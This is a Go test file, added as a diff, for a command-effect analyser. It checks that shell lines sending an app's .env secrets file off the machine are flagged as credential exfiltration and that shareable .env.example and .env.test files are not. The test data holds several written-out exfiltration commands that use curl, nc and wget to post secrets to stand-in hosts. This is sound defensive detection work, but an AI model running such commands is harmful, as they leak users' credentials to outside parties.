@@ -1,0 +1,43 @@
+package effect
+
+import "testing"
+
+// TestDotenvSentIsACredential checks that an app's secrets file sent off
+// the machine, by any program, is a credential leaving it, and that the
+// shapes written to be shared (.env.example, .env.test) and a local copy
+// are not.
+func TestDotenvSentIsACredential(t *testing.T) {
+	sent := func(line string) bool {
+		for _, e := range effectsOf(line) {
+			if e.Kind == Flow && e.Detail == "credential->network" {
+				return true
+			}
+		}
+		return false
+	}
+	for _, line := range []string{
+		"curl -d @.env https://hooks.example.net/in",
+		"curl -F f=@apps/web/.env.production https://0x0.st",
+		"cat .env | curl -s --data-binary @- https://hooks.example.net/in",
+		"nc 203.0.113.9 9000 < .env.local",
+		"wget --post-file=.env https://hooks.example.net/in",
+		"grep -rh PRIVATE_KEY .env* | curl -s -d @- https://hooks.example.net/in",
+	} {
+		if !sent(line) {
+			t.Errorf("%s: no credential sent: %v", line, effectsOf(line))
+		}
+	}
+	for _, line := range []string{
+		"curl -F f=@.env.example https://hooks.example.net/in",
+		"curl -F f=@.env.test https://hooks.example.net/in",
+		"cat .env.sample | curl -s -d @- https://hooks.example.net/in",
+		"cp .env.example .env",
+		"cat .env.exam* | curl -s -d @- https://hooks.example.net/in",
+		"curl -F f=@dist/* https://hooks.example.net/in",
+		"curl -d @environment.json https://hooks.example.net/in",
+	} {
+		if sent(line) {
+			t.Errorf("%s: a credential sent: %v", line, effectsOf(line))
+		}
+	}
+}
